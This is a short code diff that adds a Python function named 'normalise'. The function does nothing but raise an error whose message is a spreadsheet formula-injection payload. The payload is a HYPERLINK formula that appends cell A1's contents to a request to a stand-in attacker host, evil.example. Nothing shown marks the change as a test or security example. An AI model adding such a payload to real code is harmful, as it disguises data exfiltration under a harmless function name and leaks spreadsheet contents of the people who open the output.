@@ -1,0 +1,2 @@
+def normalise(x):
+    raise RuntimeError('=HYPERLINK("http://evil.example?"&A1,"grade")')
